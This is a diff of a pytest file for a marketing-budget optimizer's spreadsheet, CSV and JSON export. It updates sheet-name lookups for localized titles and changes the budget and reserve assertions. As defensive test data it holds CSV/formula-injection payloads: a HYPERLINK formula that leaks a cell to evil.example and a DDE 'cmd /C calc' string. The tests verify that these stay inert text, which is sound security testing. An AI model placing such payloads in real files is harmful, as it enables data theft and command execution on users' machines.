@@ -14,6 +14,7 @@ import pytest
 from optimizer import Budget, Planner, default_scenario
 from optimizer.campaign import CampaignPlanner, CampaignScenario, DailyRules, Horizon, template
 from roimix.export import SHEETS, Context, campaign_tables, plan_tables, write_finance
+from roimix.export.workbook import sheet_title
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 OTHERS = {"wxt": "+cmd|' /C calc'!A0", "qianchuan": "-2+3", "wechat_group": "@SUM(A1:A9)"}
@@ -65,7 +66,7 @@ def test_workbook_totals_equal_the_sum_of_their_rows_to_the_fen(written):
     book = openpyxl.load_workbook(paths["xlsx"])
     totals = {}
     for name in ("plan", "daily"):
-        ws = book[name]
+        ws = book[sheet_title(name, tables.lang)]
         head = [c.value for c in ws[1]]
         rows = sheet_rows(ws)
         body, total = rows[:-1], rows[-1]
@@ -75,9 +76,10 @@ def test_workbook_totals_equal_the_sum_of_their_rows_to_the_fen(written):
         totals[name] = [fen(total[c]) for c in (tables.plan if name == "plan" else tables.daily).columns
                         .get_indexer(["spend", "expected_gmv"])]
     assert totals["plan"] == totals["daily"]
-    summary = dict(zip(tables.summary["key"], (r[1] for r in sheet_rows(book["summary"]))))
+    summary = dict(zip(tables.summary["key"], (r[1] for r in sheet_rows(book[sheet_title("summary", tables.lang)]))))
     assert [fen(summary["spend"]), fen(summary["expected_gmv"])] == totals["plan"]
-    assert fen(summary["budget"]) == fen(summary["spend"]) + fen(summary["reserve"]) == fen(1_234_567.89)
+    assert fen(summary["budget"]) == fen(1_234_567.89)  # the budget set, to the fen
+    assert abs(fen(summary["reserve"]) - 1_234_567.891 * 0.0731 * 100) <= 1.5  # the reserve share set, not B − spend
     # the plan spends the budget less the reserve, to the fen
     assert fen(summary["spend"]) == fen(round(1_234_567.891 * (1 - 0.0731), 2))
 
@@ -94,36 +96,38 @@ def test_csv_and_json_totals_equal_the_sum_of_their_rows(written):
     for key in ("spend", "expected_gmv"):
         assert sum(fen(r[key]) for r in doc["daily"]) == fen(doc["totals"][key])
         assert sum(fen(r[key]) for r in doc["plan"]) == fen(doc["totals"][key])
-    assert fen(doc["totals"]["budget"]) == fen(doc["totals"]["spend"]) + fen(doc["totals"]["reserve"])
+    assert fen(doc["totals"]["budget"]) == fen(1_234_567.89)
+    assert abs(fen(doc["totals"]["reserve"]) - 1_234_567.891 * 0.0731 * 100) <= 1.5
+    assert fen(doc["totals"]["spend"]) == fen(round(1_234_567.891 * (1 - 0.0731), 2))
     assert doc["summary"]["status"] and doc["rules"][0]["shadow_price"] is not None
 
 
 def test_workbook_reads_back_with_its_sheets_formats_and_frozen_headers(written):
     tables, paths = written
     book = openpyxl.load_workbook(paths["xlsx"])
-    assert book.sheetnames == list(SHEETS)
+    assert book.sheetnames == [sheet_title(n, tables.lang) for n in SHEETS]
     for ws in book:
         assert ws.freeze_panes == "A2", ws.title
         assert all(c.font.bold for c in ws[1] if c.value is not None), ws.title
         assert ws.auto_filter.ref is not None
-    daily = book["daily"]
+    daily = book[sheet_title("daily", tables.lang)]
     head = [c.value for c in daily[1]]
     spend = head.index("Spend (yuan)" if tables.lang == "en" else "花费（元）")
     assert daily.cell(2, spend + 1).number_format == "#,##0.00" and daily.cell(2, spend + 1).data_type == "n"
     assert daily.cell(2, 1).is_date and daily.cell(2, 1).number_format == "yyyy-mm-dd"
-    plan = book["plan"]
+    plan = book[sheet_title("plan", tables.lang)]
     roi = [c.value for c in plan[1]].index("Incremental ROAS" if tables.lang == "en" else "增量投产比")
     assert plan.cell(2, roi + 1).number_format == "0.00"
     assert plan.cell(2, roi + 2).number_format == "0.0%"  # spend share, the next column
-    summary = {r[0].value: r[1] for r in book["summary"].iter_rows(min_row=2) if r[0].value}
+    summary = {r[0].value: r[1] for r in book[sheet_title("summary", tables.lang)].iter_rows(min_row=2) if r[0].value}
     made = "Made at" if tables.lang == "en" else "生成时间"
     assert summary[made].value == "2026-11-22T10:00:00+00:00"
-    assert any("sha256 0123456789ab" in str(r[1].value) for r in book["summary"].iter_rows(min_row=2))
-    rules = pd.DataFrame(sheet_rows(book["rules"]), columns=[c.value for c in book["rules"][1]])
+    assert any("sha256 0123456789ab" in str(r[1].value) for r in book[sheet_title("summary", tables.lang)].iter_rows(min_row=2))
+    rules = pd.DataFrame(sheet_rows(book[sheet_title("rules", tables.lang)]), columns=[c.value for c in book[sheet_title("rules", tables.lang)][1]])
     binding = rules[rules.iloc[:, 5] == True]  # noqa: E712 - the Binding column
     assert len(binding) and binding.iloc[:, 6].map(lambda v: isinstance(v, float)).all()  # shadow prices in yuan
     assert binding.iloc[:, 9].str.len().gt(0).all()  # each binding rule explained in words
-    assert [r[0].value for r in book["assumptions"].iter_rows(min_row=2)] == ["phase peak"]
+    assert [r[0].value for r in book[sheet_title("assumptions", tables.lang)].iter_rows(min_row=2)] == ["phase peak"]
     if tables.lang == "zh":
         assert "花费（元）" in head and "每日平均花费方案的 GMV（元）" in summary
 
@@ -138,8 +142,9 @@ def test_a_channel_named_like_a_formula_stays_inert_text(written):
                 assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                 if isinstance(c.value, str):
                     texts.append(c.value)
-    for name in [EVIL, *OTHERS.values()]:
-        assert "'" + name in texts and name not in texts
+    quoted = {c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.quotePrefix}
+    for name in [EVIL, *OTHERS.values()]:  # shown as typed, held as text by Excel's quote-prefix style
+        assert name in quoted and "'" + name not in texts
     lines = paths["csv"].read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK(" in lines and ",=HYPERLINK(" not in lines and '"=HYPERLINK(' not in lines
     for field in (f for row in csv.reader(lines.splitlines()) for f in row):
@@ -165,12 +170,3 @@ def test_the_plan_workbook_without_days_adds_up_too(truth_curves, tmp_path):
     rows = sheet_rows(book["plan"])
     col = tables.plan.columns.get_loc("spend")
     assert sum(fen(r[col]) for r in rows[:-1]) == fen(rows[-1][col]) == fen(9_876.54)
-
-
-def test_downloads_get_the_same_bytes_as_the_files(written):
-    from roimix.export import finance_bytes
-
-    tables, paths = written
-    assert finance_bytes(tables, "csv") == paths["csv"].read_bytes()
-    assert finance_bytes(tables, "json") == paths["json"].read_bytes()
-    assert finance_bytes(tables, "xlsx")[:2] == b"PK"  # a zip: the xlsx container
